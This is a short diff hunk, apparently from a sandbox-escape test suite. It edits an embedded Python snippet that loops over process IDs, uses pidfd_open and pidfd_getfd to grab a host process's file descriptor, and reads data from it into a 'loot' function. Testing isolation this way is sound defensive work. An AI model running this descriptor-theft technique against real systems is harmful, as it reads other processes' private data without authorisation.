@@ -91,7 +91,7 @@ for pid in PIDS:
     process = syscall("pidfd_open", pid, 0)
     if process < 0: continue
     fd = syscall("pidfd_getfd", process, HOST["fd"], 0)
-    if fd >= 0: loot(os.pread(fd, 100, 0))
+    if fd >= 0: loot(attempt(os.pread, fd, 100, 0))
 """,
         control_needs_root=True,
     ),
